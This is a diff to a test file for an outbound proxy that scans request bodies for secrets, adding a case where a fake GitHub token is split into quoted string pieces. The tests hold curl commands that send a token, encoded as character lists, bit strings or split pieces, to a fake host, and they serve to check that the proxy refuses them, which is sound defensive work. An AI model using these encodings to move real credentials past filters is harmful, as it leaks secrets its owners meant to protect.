@@ -76,7 +76,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
       .map((l) => JSON.parse(l));
   const reached = async (path: string) =>
     (await upstream.received()).some((r) => String(r.path) === path);
-  const token = "ghp_" + "Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2";
+  const token = "gh" + "p_Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2";
   try {
     await t.step(
       "a chunked body over the limit is refused, and its URL is scanned first",
@@ -377,7 +377,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     );
 
     await t.step(
-      "a token printed as a list of its characters (Node's `[...token]`) or as each byte's bits is refused",
+      "a token printed as a list of its characters (Node's `[...token]`), as each byte's bits or written in quoted pieces in code is refused",
       async () => {
         const printed = await sh(
           `node -e 'console.log([...process.argv[1]])' '${token}' | ` +
@@ -385,11 +385,15 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             "https://plain.fake.test/v1/list; echo; cat /tmp/refused; echo; " +
             `node -e 'console.log([...Buffer.from(process.argv[1])].map((b) => b.toString(2).padStart(8, "0")).join(" "))' '${token}' | ` +
             "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
-            "https://plain.fake.test/v1/bits; echo; cat /tmp/refused",
+            "https://plain.fake.test/v1/bits; echo; cat /tmp/refused; echo; " +
+            `printf '%s\\n' 'const key = "${token.slice(0, 14)}" +' '  "${token.slice(14)}";' | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- " +
+            "https://plain.fake.test/v1/quoted; echo; cat /tmp/refused",
         );
         assert.match(printed.stdout, /^403\n.*GitHub token \(rule github-token\) in the body/);
-        assert.equal(printed.stdout.match(/^403$/gm)?.length, 2, printed.stdout);
-        for (const path of ["/v1/list", "/v1/bits"]) {
+        assert.match(printed.stdout, /\n403\n.*in the body, in quoted pieces/);
+        assert.equal(printed.stdout.match(/^403$/gm)?.length, 3, printed.stdout);
+        for (const path of ["/v1/list", "/v1/bits", "/v1/quoted"]) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
         }
       },
